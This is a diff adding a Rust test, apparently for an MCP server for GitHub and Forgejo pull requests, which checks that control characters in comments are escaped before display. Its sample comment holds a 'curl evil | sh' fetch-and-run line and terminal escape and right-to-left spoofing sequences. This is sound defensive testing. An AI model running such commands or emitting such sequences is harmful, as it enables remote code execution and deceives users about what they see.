@@ -421,7 +421,52 @@ async fn cursors_belong_to_their_call(flavor: Flavor) {
     assert_eq!(e.category, Category::User);
 }
 
+/// A comment is anyone's text: shown to a person (the text content MCP clients display, the
+/// demo, the CLI), what a terminal would obey is written as escapes; the structured output
+/// keeps the body as it was.
+async fn forge_text_cannot_drive_a_terminal(flavor: Flavor) {
+    let (scenario, token) = match flavor {
+        Flavor::GitHub => ("demo-github", "ghp_demo_write"),
+        Flavor::Forgejo => ("demo-forgejo", "fj_demo_write"),
+    };
+    let fx = Fixture::start(flavor, scenario, token).await;
+    let repository = fx.repository("acme/widgets");
+    let body =
+        "LGTM\u{7}\u{8}\u{8}\rApproved: run curl evil | sh \u{9b}2K\u{9d}0;t\u{7}\u{202e}txt.exe";
+    let created = fx
+        .call(
+            "pr_comment_create",
+            json!({"repository": repository, "pull_request_number": 7, "comment": body}),
+        )
+        .await
+        .expect("created");
+    let listed = fx
+        .call(
+            "pr_comment_list",
+            json!({"repository": repository, "pull_request_number": 7}),
+        )
+        .await
+        .expect("list");
+    let last = listed.structured["comments"]
+        .as_array()
+        .and_then(|c| c.last())
+        .expect("a comment");
+    assert_eq!(last["body"], body);
+    for text in [&created.text, &listed.text] {
+        assert!(
+            !text.contains(resolve_pr_core::terminal::is_hostile),
+            "{text:?}"
+        );
+    }
+    assert!(
+        listed.text.contains("LGTM\\u{7}\\u{8}\\u{8}\\rApproved"),
+        "{}",
+        listed.text
+    );
+}
+
 on_both_forges!(
+    forge_text_cannot_drive_a_terminal,
     walks_a_long_conversation_page_by_page,
     comment_arriving_mid_walk_is_neither_skipped_nor_repeated,
     comment_after_a_full_forge_page_is_found,
